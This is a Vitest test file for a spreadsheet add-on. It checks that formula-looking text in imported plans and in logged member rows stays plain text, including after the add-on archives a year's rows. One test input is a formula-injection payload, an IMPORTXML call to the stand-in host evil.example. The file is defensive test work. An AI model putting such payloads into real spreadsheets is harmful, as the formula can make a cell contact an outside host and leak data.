// Text that looks like a formula stays text, from the plan, from a member's log and through rows the add-on moves.
import { describe, expect, it } from 'vitest';
import type { Action } from '../../../shared/model/action.ts';
import { ACTIVITIES } from '../../../shared/sheets/columns.ts';
import { importText, logActions, SEED_TEXT, seedActions, shown, withSeed } from '../../support/add-on.ts';

describe('formula injection', () => {
  it('stores plan and logged text that looks like a formula as plain text', async () => {
    const addOn = await withSeed();
    const hostile = SEED_TEXT.replace(
      '· ta det samordnade ansvaret i EU-valrörelsen',
      '· =IMPORTXML("https://evil.example/x";"//a")',
    );
    expect((await importText(addOn, hostile)).ok).toBe(true);
    const row = shown(addOn, ACTIVITIES.name).findIndex((cells) => cells[0] === 'P3.1') + 1;
    const activity = addOn.runtime.cell(`'Aktiviteter'!C${row}`);
    expect(activity.formula).toBe('');
    expect(activity.value).toBe('=IMPORTXML("https://evil.example/x";"//a")');
    expect(activity.formulaBar).toBe('\'=IMPORTXML("https://evil.example/x";"//a")');

    // Rows the add-on moves are written again: still text.
    const [action] = seedActions(1);
    logActions(addOn, [{ ...(action as Action), member: '+46 70 123', note: '=1+1' }]);
    addOn.runtime.ui.respond({ button: 'OK', text: '2024' });
    addOn.runtime.ui.clickMenuItem('Målkoll', 'Arkivera år…');
    expect(addOn.runtime.cell("'Logg 2024'!B2")).toMatchObject({ value: '+46 70 123', formulaBar: "'+46 70 123" });
    expect(addOn.runtime.cell("'Logg 2024'!J2")).toMatchObject({ formula: '', value: '=1+1', formulaBar: "'=1+1" });
  });
});
